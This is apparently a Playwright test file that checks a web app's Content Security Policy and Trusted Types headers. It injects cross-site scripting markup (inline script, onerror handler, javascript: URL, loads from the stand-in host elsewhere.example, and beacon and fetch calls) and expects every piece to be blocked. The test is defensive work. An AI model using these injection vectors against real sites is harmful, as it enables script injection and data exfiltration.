/**
 * What somebody who got markup or script into the desk could do with it: nothing. The built app, served
 * by the real hub; the same injection into a page without the policy shows that it would work.
 */

import type { BrowserContext, Page, Response } from '@playwright/test';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { once } from 'node:events';
import { expect, test } from '../fixtures.ts';

/** Another site, and what was asked of it. What the policy stops is never asked. */
const there = 'http://elsewhere.example';
let asked: string[];

test.use({ serviceWorkers: 'block' });

test.beforeEach(async ({ context }) => {
	asked = [];
	await context.route(`${there}/**`, (route) => {
		asked.push(new URL(route.request().url()).pathname);
		return route.fulfill({
			headers: { 'access-control-allow-origin': '*' },
			contentType: 'text/javascript',
			body: 'globalThis.stolen = [...(globalThis.stolen ?? []), "remote"];'
		});
	});
});

const steal = (how: string) => `globalThis.stolen = [...(globalThis.stolen ?? []), '${how}']`;
const markup = `
	<script>${steal('inline')}</script>
	<img src="data:,none" onerror="${steal('handler')}">
	<script src="${there}/script.js"></script>
	<link rel="stylesheet" href="${there}/style.css">
	<img src="${there}/image.png">
	<iframe src="${there}/frame"></iframe>
	<object data="${there}/object"></object>
	<a id="lure" href="javascript:${steal('url')}">.</a>`;

/** Puts markup into the page on its way, as a hole in the desk or the hub would. */
async function openInjected(context: BrowserContext, { policy }: { policy: boolean }) {
	const page = await context.newPage();
	await page.addInitScript(() => {
		const violated: string[] = [];
		Object.assign(globalThis, { violated });
		document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
			violated.push(effectiveDirective);
		});
	});
	await page.route('**/', async (route) => {
		const answer = await route.fetch();
		const { 'content-security-policy': csp, ...rest } = answer.headers();
		const headers = policy ? { ...rest, 'content-security-policy': csp ?? '' } : rest;
		// What the build itself says in the page is taken out, so that the header alone is tested.
		const body = (await answer.text()).replace(/<meta[^>]*http-equiv[^>]*>/gi, '');
		await route.fulfill({
			response: answer,
			headers,
			body: body.replace(/<body[^>]*>/, (tag) => tag + markup)
		});
	});
	await page.goto('/');
	await expect(page.locator('h1')).toBeVisible();
	await page.locator('#lure').dispatchEvent('click');
	await page.evaluate(async (url) => {
		navigator.sendBeacon(`${url}/beacon`);
		await fetch(`${url}/fetch`).catch(() => undefined);
	}, there);
	return page;
}

type Scope = typeof globalThis & { stolen?: string[]; violated: string[] };
const stolenIn = (page: Page) => page.evaluate(() => (globalThis as Scope).stolen ?? []);

test('injected markup runs nothing, loads nothing and sends nothing', async ({ context }) => {
	const page = await openInjected(context, { policy: true });
	const violated = () => page.evaluate(() => [...new Set((globalThis as Scope).violated)].sort());
	await expect
		.poll(violated)
		.toEqual(
			expect.arrayContaining([
				...['connect-src', 'frame-src', 'img-src', 'object-src', 'script-src-attr'],
				...['script-src-elem', 'style-src-elem']
			])
		);
	expect(await stolenIn(page)).toEqual([]);
	expect(asked).toEqual([]);
});

test('without the policy the same markup does all of it', async ({ context }) => {
	const page = await openInjected(context, { policy: false });
	await expect
		.poll(async () => (await stolenIn(page)).sort())
		.toEqual(['handler', 'inline', 'remote', 'url']);
	await expect
		.poll(() => asked)
		.toEqual(
			expect.arrayContaining(['/script.js', '/style.css', '/image.png', '/frame', '/fetch'])
		);
});

test('text is never taken for code or markup: every such sink throws', async ({ page }) => {
	await page.goto('/');
	await expect(page.locator('h1')).toBeVisible();
	const outcomes = await page.evaluate(async () => {
		const sinks: Record<string, () => unknown> = {
			eval: () => (0, eval)('1') as number,
			// eslint-disable-next-line @typescript-eslint/no-implied-eval -- that it throws is the test
			Function: () => new Function('return 1'),
			setTimeout: () => setTimeout('globalThis.stolen = 1' as unknown as () => void),
			innerHTML: () => (document.createElement('div').innerHTML = '<b>x</b>'),
			outerHTML: () => (document.body.firstElementChild!.outerHTML = '<b>x</b>'),
			insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
			srcdoc: () => (document.createElement('iframe').srcdoc = '<b>x</b>'),
			// eslint-disable-next-line @typescript-eslint/no-deprecated -- still a way in
			write: () => document.write('<b>x</b>'),
			parse: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
			'script text': () => (document.createElement('script').text = 'x'),
			'script address': () => (document.createElement('script').src = '/x.js'),
			Worker: () => new Worker('/x.js'),
			policy: () =>
				(
					globalThis as { trustedTypes?: { createPolicy(name: string, how: object): void } }
				).trustedTypes!.createPolicy('theirs', {})
		};
		const tried: Record<string, string> = {};
		for (const [name, sink] of Object.entries(sinks))
			// In a task of the page's own: the debugger's may do what the page may not.
			tried[name] = await new Promise<string>((resolve) => {
				const task = () => {
					try {
						sink();
						resolve('did it');
					} catch (error) {
						resolve(error instanceof Error ? error.name : 'threw');
					}
				};
				setTimeout(task);
			});
		return tried;
	});
	for (const [name, outcome] of Object.entries(outcomes))
		expect.soft(outcome, name).toMatch(/^(TypeError|EvalError)$/);
	expect(Object.keys(outcomes)).toHaveLength(13);
});

test('the desk itself violates nothing, and every answer carries the headers @journey', async ({
	context
}) => {
	const page = await context.newPage();
	const answers: Response[] = [];
	const complaints: string[] = [];
	page.on('response', (answer) => void answers.push(answer));
	page.on('console', (message) => {
		if (/Content Security Policy|Trusted/i.test(message.text())) complaints.push(message.text());
	});
	await page.goto('/');
	await expect(page.locator('h1')).toBeVisible();
	for (const path of ['/manifest.webmanifest', '/nothing', '/v1/nothing', '/rpc/x', '/auth/x'])
		await page.evaluate((url) => fetch(url), path);
	expect(answers.length).toBeGreaterThan(8);
	for (const answer of answers) {
		const headers = await answer.allHeaders();
		const csp = headers['content-security-policy'] ?? '';
		expect(csp, answer.url()).toMatch(/^default-src 'none'.*frame-ancestors 'none'/);
		expect(csp).toContain("require-trusted-types-for 'script'");
		expect(csp).not.toMatch(/script-src[^;]*('unsafe-inline'|'unsafe-eval'|https?:|\*)/);
		expect(headers, answer.url()).toMatchObject({
			'x-content-type-options': 'nosniff',
			'cross-origin-opener-policy': 'same-origin',
			'referrer-policy': 'no-referrer',
			'permissions-policy': expect.stringContaining('camera=(self)')
		});
	}
	expect(complaints).toEqual([]);
});

test('no other site shows the desk in a frame', async ({ context, hub }) => {
	// A site of its own on this machine: browsers keep pages from afar out of it by themselves.
	const site = createServer((_, response) => {
		response.setHeader('content-type', 'text/html');
		response.end(`<iframe src="${hub.address}/"></iframe>`);
	}).listen(0, '127.0.0.1');
	await once(site, 'listening');
	try {
		const page = await context.newPage();
		const said: string[] = [];
		page.on('console', (message) => void said.push(message.text()));
		await page.goto(`http://127.0.0.1:${(site.address() as AddressInfo).port}/`);
		await expect.poll(() => said.join()).toContain("frame-ancestors 'none'");
		await expect
			.poll(() => page.frames().map((frame) => frame.url()))
			.toContainEqual(expect.stringMatching(/^chrome-error:/));
	} finally {
		site.closeAllConnections();
		site.close();
	}
});
